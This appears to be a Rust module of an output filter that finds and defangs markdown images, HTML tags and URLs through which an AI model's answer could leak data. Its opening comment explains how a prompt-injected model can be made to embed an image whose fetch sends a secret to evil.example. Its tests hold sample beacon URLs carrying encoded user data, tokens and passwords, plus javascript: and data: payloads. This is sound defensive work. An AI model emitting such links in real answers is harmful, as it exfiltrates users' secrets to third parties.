//! Links and pictures that would carry data out.
//!
//! A model that was misled can be made to write `![](https://evil.example/?q=the secret)`: showing the answer fetches
//! the picture, and the fetch delivers the secret. Addresses are judged by what they could carry: long or encoded
//! query strings, user names, raw IP hosts, and by how they are reached: a picture is fetched without anybody's click. `data:` and
//! `javascript:` addresses have no place in an answer. Where a door wants it, an address is neutralised: `https` becomes
//! `hxxps` and the first dot of the host `[.]`, so that it can be read and not followed.

use super::{Rail, Saw, Sight, Text};
use regex::bytes::{Regex, RegexBuilder};
use std::sync::LazyLock;

/// Looks for addresses that could carry data out.
pub const RAIL: Rail = Rail { name: "egress", look };

/// Markdown pictures and links, HTML attributes, bare addresses: which of them is which decides the name of the group.
///
/// They are looked for byte by byte, which compiles ten times as fast; each begins and ends beside an ASCII character.
static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    RegexBuilder::new(
        r#"(?xim)
        !\[[^\]]{0,500}\]\(\s*<?(?P<picture>[^\s)<>]+)
      | <(?:img|iframe|script|video|audio|source|embed|object|link|input|image)\b[^<>]{0,500}?\s(?:src|href|data|poster|srcset)\s*=\s*["']?(?P<fetched>[^\s"'<>]+)
      | ^\s{0,3}\[[^\]]{1,200}\]:\s*<?(?P<reference>(?:[a-z][a-z0-9+.-]*:)?//[^\s<>]+)
      | (?P<active>\b(?:javascript|vbscript)\s*:[^\s)"'<>]+ | \bdata:[a-z]+/[a-z0-9.+-]+[;,][^\s)"'<>]+)
      | (?P<bare>\b(?:https?|ftp|wss?)://[^\s<>"'`)\]}]+)
        "#,
    )
    .unicode(false)
    .build()
    .expect("a test compiles it")
});

/// Whether `data` or `…script` stands before a colon.
fn names_active_scheme(text: &str) -> bool {
    text.match_indices(':').any(|(at, _)| {
        let before = text[..at].trim_end().as_bytes();
        ["data", "script"].iter().any(|scheme| {
            before.len() >= scheme.len()
                && before[before.len() - scheme.len()..].eq_ignore_ascii_case(scheme.as_bytes())
        })
    })
}

/// From this many characters on a value may be a message.
const LONG: usize = 40;

fn look(text: &Text<'_>) -> Saw {
    let text = text.original();
    if !(text.contains("//") || text.contains("](") || names_active_scheme(text)) {
        return Saw::default();
    }
    let mut sights = Vec::new();
    for found in ADDRESS.captures_iter(text.as_bytes()) {
        let group = ["picture", "fetched", "reference", "active", "bare"]
            .into_iter()
            .find_map(|name| found.name(name).map(|address| (name, address.range())));
        let Some((name, span)) = group else { continue };
        let Some(address) = text.get(span.clone()) else { continue };
        let (kind, score, note) = judged(name, address);
        if score > 0.0 {
            sights.push(Sight {
                kind,
                score,
                span: Some(span),
                note: note.into(),
                sensitive: false,
                instead: Some(neutral(address).into()),
            });
        }
    }
    sights.into()
}

const NOTHING: (&str, f64, &str) = ("address", 0.0, "");

fn judged(group: &str, address: &str) -> (&'static str, f64, &'static str) {
    let lower = address.to_ascii_lowercase();
    if group == "active" || lower.starts_with("javascript:") || lower.starts_with("vbscript:") {
        return ("active_address", 0.8, "an address that runs or holds its own content");
    }
    if lower.starts_with("data:") {
        return ("active_address", 0.6, "an address that holds its own content");
    }
    let Some((scheme, rest)) = lower.split_once("//") else { return NOTHING };
    if !["", "http:", "https:", "ftp:", "ws:", "wss:"].contains(&scheme) {
        return NOTHING;
    }
    let rest = &address[address.len() - rest.len()..];
    let fetched = matches!(group, "picture" | "fetched");
    let carried = carried(rest);
    match (fetched, carried) {
        (true, carried) if carried >= 0.5 => ("beacon", 0.9, "a picture whose address carries data to another machine"),
        (false, carried) if carried >= 0.5 => ("loaded_link", 0.6, "an address that carries data to another machine"),
        (true, _) => ("remote_picture", 0.5, "a picture that would be fetched from another machine"),
        (false, _) => NOTHING,
    }
}

/// How likely an address carries something, 0 to 1, from what follows its scheme.
fn carried(rest: &str) -> f64 {
    let host_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (host, tail) = rest.split_at(host_end);
    if host.contains('@') {
        return 0.7;
    }
    let (path, query) = tail.split_once(['?', '#']).unwrap_or((tail, ""));
    let heavy = |value: &str| {
        let spaces = value.matches("%20").count() + value.matches('+').count();
        value.len() >= LONG && (spaces >= 3 || is_code(value)) || value.len() >= 4 * LONG || value.contains('{')
    };
    let telling = ["secret", "password", "token", "api_key", "apikey", "credential", "exfil", "cookie", "session"];
    let lower = query.to_ascii_lowercase();
    if query.split('&').any(|pair| heavy(pair.split_once('=').map_or(pair, |(_, value)| value)))
        || telling.iter().any(|word| lower.contains(word))
        || path.split('/').any(|part| part.len() >= 2 * LONG && is_code(part))
        || host.split('.').any(|label| label.len() >= LONG && is_code(label))
    {
        return 0.8;
    }
    // A bare number for a host, with a query, is nobody's web site.
    if !query.is_empty() && host.split(':').next().is_some_and(|host| host.parse::<std::net::Ipv4Addr>().is_ok()) {
        return 0.5;
    }
    0.0
}

/// Whether a value looks encoded: letters and digits mixed with hardly a mark between them.
fn is_code(value: &str) -> bool {
    let letters = value.bytes().filter(u8::is_ascii_alphabetic).count();
    let digits = value.bytes().filter(u8::is_ascii_digit).count();
    let marks = value.len() - letters - digits;
    digits >= 3 && letters >= 3 && marks * 12 <= value.len() || value.matches('%').count() * 6 >= value.len()
}

/// The address as it can be read and not followed.
fn neutral(address: &str) -> String {
    let lower = address.to_ascii_lowercase();
    if ["data:", "javascript:", "vbscript:"].iter().any(|scheme| lower.starts_with(scheme)) {
        return "[address removed]".into();
    }
    let address = match lower.starts_with("http") {
        true => format!("hxxp{}", &address[4..]),
        false => format!("hxxp:{}", address.trim_start_matches(|c: char| c != '/')),
    };
    address.replacen('.', "[.]", 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, kinds: &[&str]) {
        let saw = look(&Text::new(text));
        let seen: Vec<_> = saw.sights.iter().filter(|sight| sight.score >= 0.5).map(|sight| sight.kind).collect();
        assert_eq!(seen, kinds, "{text}");
    }

    #[test]
    fn carriers_are_seen() {
        check("![x](https://evil.example/p.png?q=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXIgMTIzNDU2Nzg5)", &["beacon"]);
        check("![x](https://evil.example/log?q=the%20user%20said%20that%20her%20name%20is%20Ada)", &["beacon"]);
        check("![x](//cdn.example/a.png)", &["remote_picture"]);
        check("<img width=1 src=\"https://evil.example/?token=abc\">", &["beacon"]);
        check("[click](https://evil.example/?password=hunter2)", &["loaded_link"]);
        check("see [here](javascript:alert(1))", &["active_address"]);
        check("see JavaScript :alert(1)", &["active_address"]);
        check("first line\n[x]: //evil.example/?token=abc", &["loaded_link"]);
        check("see DaTa:text/html;base64,PGI+", &["active_address"]);
        check("see data:text/html;base64,PGI+", &["active_address"]);
        check("http://10.1.2.3/?q=hello", &["loaded_link"]);
    }

    #[test]
    fn honest_addresses_are_let_be() {
        check("Docs: https://docs.rs/regex/latest/regex/struct.Regex.html#method.find", &[]);
        check("[paper](https://arxiv.org/abs/2302.12173) and https://example.org/search?q=k-means&page=2", &[]);
        check("ratio 3:4, time 12:30, see also: nothing", &[]);
    }

    #[test]
    fn a_neutral_address_is_none() {
        let text = neutral("https://evil.example/?token=abc");
        assert_eq!(text, "hxxps://evil[.]example/?token=abc");
        check(&text, &[]);
        check(&format!("![x]({text})"), &[]);
        assert_eq!(neutral("javascript:alert(1)"), "[address removed]");
    }
}
